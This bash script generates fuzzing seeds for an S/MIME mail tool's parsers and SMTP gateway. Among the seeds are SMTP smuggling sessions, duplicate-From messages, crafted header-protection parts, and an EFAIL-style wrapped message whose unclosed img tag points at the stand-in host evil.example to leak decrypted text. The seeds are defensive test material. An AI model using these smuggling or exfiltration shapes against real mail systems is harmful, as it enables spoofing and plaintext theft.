#!/usr/bin/env bash
# Regenerates the seeds of fuzz_mime and fuzz_smime from a built mailseal
# (default build/src/cli/mailseal) and the throw-away identities in
# fuzz/data (made once with `openssl req -x509 -newkey ...`, never used for
# anything but fuzzing).
set -euo pipefail
cd "$(dirname "$0")"
MAILSEAL=${MAILSEAL:-../build/src/cli/mailseal}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
"$MAILSEAL" init sender@example.com --suite modern --home "$work/sender" >/dev/null 2>&1
"$MAILSEAL" contact import data/fuzz-cert.pem --home "$work/sender" >/dev/null
cat >"$work/plain.eml" <<'MAIL'
From: Sender <sender@example.com>
To: Fuzz <fuzz@example.com>
Subject: seed
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello =C3=BCber
--b1
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

AAECAw==
--b1--
MAIL
cp "$work/plain.eml" corpus/mime/multipart-mixed.eml
printf 'From: a@example.com\r\nTo: "Group": b@example.com, c@example.com;\r\nSubject: =?utf-8?q?caf=C3=A9?=\r\nContent-Type: text/plain; name*=utf-8%%27%%27caf%%C3%%A9\r\n\r\nbody\r\n' >corpus/mime/encoded-words.eml
printf 'Subject: no body' >corpus/mime/headers-only.eml
printf 'Content-Type: multipart/alternative; boundary=x\n\n--x\n\na\n--x\nContent-Type: text/html\n\n<p>b</p>\n--x--\n' >corpus/mime/lf-endings.eml
"$MAILSEAL" sign "$work/plain.eml" -o corpus/smime/signed-detached.eml --home "$work/sender"
"$MAILSEAL" sign --opaque "$work/plain.eml" -o corpus/smime/signed-opaque.eml --home "$work/sender"
"$MAILSEAL" encrypt "$work/plain.eml" -o corpus/smime/encrypted-signed.eml --home "$work/sender"
"$MAILSEAL" encrypt --no-sign "$work/plain.eml" -o corpus/smime/encrypted.eml --home "$work/sender"
openssl cms -encrypt -aes256 -in "$work/plain.eml" -out corpus/smime/openssl-cbc-rsa.eml data/fuzz-rsa-cert.pem
openssl cms -encrypt -aes-256-gcm -in "$work/plain.eml" -out corpus/smime/openssl-gcm-ec.eml data/fuzz-cert.pem
cp corpus/smime/signed-detached.eml corpus/mime/signed-detached.eml
# Trust material: endorsements with depth and scope, a rotation, a revocation.
"$MAILSEAL" init introducer@example.org --suite modern --home "$work/introducer" >/dev/null 2>&1
"$MAILSEAL" export certificates -o "$work/sender.pem" --home "$work/sender"
"$MAILSEAL" contact import "$work/sender.pem" --home "$work/introducer" >/dev/null
"$MAILSEAL" endorse sender@example.com --amount 60 --depth 2 --scope example.com --scope .example.org \
  --home "$work/introducer" >/dev/null 2>&1
"$MAILSEAL" export endorsements -o corpus/trust_material/endorsements.pem --home "$work/introducer"
"$MAILSEAL" export rotation "$work/sender.pem" -o corpus/trust_material/rotation.pem --home "$work/introducer"
"$MAILSEAL" export revocation -o corpus/trust_material/revocation.pem --home "$work/introducer" 2>/dev/null
openssl crl -in corpus/trust_material/revocation.pem -outform DER -out corpus/trust_material/revocation.der
# The gateway's whole sessions ("S": after EHLO and a successful AUTH PLAIN,
# see fuzz_smtp.cc): smuggling variants, header rules, HTTP, AUTH LOGIN.
data='From: alice@example.com\r\nTo: bob@example.org\r\nSubject: s\r\n\r\nbody\r\n'
envelope='MAIL FROM:<alice@example.com>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n'
smuggled='MAIL FROM:<alice@example.com>\r\nRCPT TO:<carol@example.net>\r\nDATA\r\nFrom: alice@example.com\r\n\r\nx\r\n.\r\n'
printf "S$envelope$data.\r\nQUIT\r\n" >corpus/smtp/auth-session
for variant in lf-dot-lf crlf-dot-lf lf-dot-crlf cr-dot-crlf crlf-dot-cr; do
  case $variant in
    lf-dot-lf) end='\n.\n' ;;
    crlf-dot-lf) end='\r\n.\n' ;;
    lf-dot-crlf) end='\n.\r\n' ;;
    cr-dot-crlf) end='\r.\r\n' ;;
    crlf-dot-cr) end='\r\n.\r' ;;
  esac
  printf "S${envelope}From: alice@example.com\r\n\r\nfirst$end$smuggled" >"corpus/smtp/smuggle-$variant"
done
printf "S${envelope}From: alice@example.com\r\nFrom: bob@example.org\r\n\r\nx\r\n.\r\n" >corpus/smtp/two-from
printf "S${envelope}From: alice@example.com, bob@example.org\r\nSubject: \303\244\000\r\n\r\nx\r\n.\r\n" >corpus/smtp/bad-from
printf 'POST / HTTP/1.1\r\nHost: 127.0.0.1:10587\r\nContent-Type: text/plain\r\n\r\nEHLO a\r\n' >corpus/smtp/http-post
printf 'EHLO a\r\nAUTH LOGIN\r\nZnV6eg==\r\nc2VjcmV0\r\nMAIL FROM:<a@b.c>\r\nNOOP\nQUIT\r\n' >corpus/smtp/auth-login
printf 'EHLO a\r\nMAIL FROM:<a@b.c>\r\nAUTH PLAIN\r\n*\r\nAUTH CRAM-MD5\r\n' >corpus/smtp/unauthenticated
# RFC 9788 Legacy Display Elements (mime/legacy_display.h): real ones in a
# decrypted payload's main body parts, and crafted ones the reader must keep.
hp='From: a@example.com\r\nTo: b@example.org\r\nSubject: =?utf-8?q?Caf=C3=A9_<at>_noon?=\r\n'
printf "${hp}Content-Type: text/plain; charset=utf-8; hp=\"cipher\"; hp-legacy-display=\"1\"\r\n\r\nSubject: Caf\303\251 <at> noon\r\n\r\nHi\r\n" >corpus/mime/legacy-display-text.eml
printf "${hp}Content-Type: multipart/alternative; boundary=\"a\"; hp=\"cipher\"\r\n\r\n--a\r\nContent-Type: text/plain; charset=utf-8; hp-legacy-display=1\r\nContent-Transfer-Encoding: base64\r\n\r\nU3ViamVjdDogQ2Fmw6kgPGF0PiBub29uDQoNCkhpDQo=\r\n--a\r\nContent-Type: text/html; hp-legacy-display=\"1\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<html><body><div class=3D\"header-protection-legacy-display\">\r\n<pre>Subject: Caf&#233; &lt;at&gt; noon</pre>\r\n</div>\r\n<p>Hi</p></body></html>\r\n--a--\r\n" >corpus/mime/legacy-display-alternative.eml
printf "${hp}Content-Type: multipart/mixed; boundary=\"m\"; hp=\"cipher\"\r\n\r\n--m\r\nContent-Type: text/plain; hp-legacy-display=\"1\"\r\n\r\nSubject: Pay Mallory\r\nX-Note: hidden\r\n\r\nHi\r\n--m\r\nContent-Type: text/html; hp-legacy-display=\"1\"\r\n\r\n<div class='header-protection-legacy-display'><pre>Subject: x</pre><img src=http://evil.example/><div></div></div>\r\n--m--\r\n" >corpus/mime/legacy-display-crafted.eml
openssl cms -encrypt -aes256 -in corpus/mime/legacy-display-alternative.eml -out corpus/smime/legacy-display-openssl.eml data/fuzz-rsa-cert.pem
openssl cms -encrypt -aes256 -in corpus/mime/legacy-display-crafted.eml -out corpus/smime/legacy-display-crafted.eml data/fuzz-rsa-cert.pem
echo "seeds written"
# Attack shapes (docs/smime.md, "Reading"): two From fields, a signed and an
# encrypted part wrapped in someone else's multipart/mixed, an attached message.
{ printf 'From: mallory@evil.example\r\n'; cat corpus/smime/signed-detached.eml; } >corpus/smime/two-from.eml
{
  printf 'From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="w"\r\n\r\n'
  printf -- '--w\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--w\r\n'
  sed -n '/^Content-Type:/,$p' corpus/smime/openssl-gcm-ec.eml
  printf -- '\r\n--w\r\nContent-Type: message/rfc822\r\n\r\n'
  cat corpus/smime/signed-opaque.eml
  printf -- '\r\n--w--\r\n'
} >corpus/smime/wrapped-parts.eml
# fuzz_cms_stream: the encrypted seeds above, and openssl's streamed (BER,
# indefinite lengths, chunked content) and DER envelopes of a longer content.
for seed in encrypted-signed encrypted openssl-cbc-rsa openssl-gcm-ec; do
  cp "corpus/smime/$seed.eml" corpus/cms_stream/
done
{ printf 'Content-Type: text/plain\r\n\r\n'; for i in $(seq 80); do printf 'stream seed line for chunked content\r\n'; done; } >"$work/seed.txt"
openssl cms -encrypt -stream -binary -outform DER -aes-256-gcm -in "$work/seed.txt" -out corpus/cms_stream/openssl-stream-gcm-rsa.der data/fuzz-rsa-cert.pem
openssl cms -encrypt -stream -binary -outform DER -aes256 -in "$work/seed.txt" -out corpus/cms_stream/openssl-stream-cbc-rsa.der data/fuzz-rsa-cert.pem
openssl cms -encrypt -stream -binary -outform DER -aes-128-gcm -in "$work/seed.txt" -out corpus/cms_stream/openssl-stream-gcm-ec.der data/fuzz-cert.pem
openssl cms -encrypt -binary -outform DER -aes256 -in "$work/seed.txt" -out corpus/cms_stream/openssl-der-cbc-rsa-ec.der data/fuzz-rsa-cert.pem data/fuzz-cert.pem
# fuzz_signed_stream: the signed seeds above, and openssl's streamed (BER,
# indefinite lengths, chunked content) and DER signed-data of a longer
# content, with signed attributes and without, with two signers.
mkdir -p corpus/signed_stream
for seed in signed-opaque signed-detached two-from; do
  cp "corpus/smime/$seed.eml" corpus/signed_stream/
done
openssl cms -sign -stream -binary -nodetach -outform DER -in "$work/seed.txt" -signer data/fuzz-rsa-cert.pem -inkey data/fuzz-rsa-key.pem -out corpus/signed_stream/openssl-stream-rsa.der
openssl cms -sign -binary -nodetach -outform DER -in "$work/seed.txt" -signer data/fuzz-cert.pem -inkey data/fuzz-key.pem -out corpus/signed_stream/openssl-der-ec.der
openssl cms -sign -binary -nodetach -noattr -outform DER -in "$work/seed.txt" -signer data/fuzz-rsa-cert.pem -inkey data/fuzz-rsa-key.pem -out corpus/signed_stream/openssl-noattr-rsa.der
openssl cms -sign -stream -binary -nodetach -outform DER -in "$work/seed.txt" -signer data/fuzz-rsa-cert.pem -inkey data/fuzz-rsa-key.pem -signer data/fuzz-cert.pem -inkey data/fuzz-key.pem -md sha384 -out corpus/signed_stream/openssl-two-signers.der
